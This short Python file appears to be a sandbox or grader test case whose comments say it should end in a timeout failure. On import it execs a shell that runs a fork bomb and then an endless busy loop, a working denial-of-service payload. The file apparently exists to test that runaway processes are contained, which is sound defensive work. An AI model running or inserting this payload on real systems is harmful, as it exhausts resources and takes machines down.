# shells that start shells
# holds: fail timeout
import os
os.execv('/bin/sh', ['sh', '-c', 'b() { b | b & }; b; while :; do :; done'])
def f(x):
    return 0
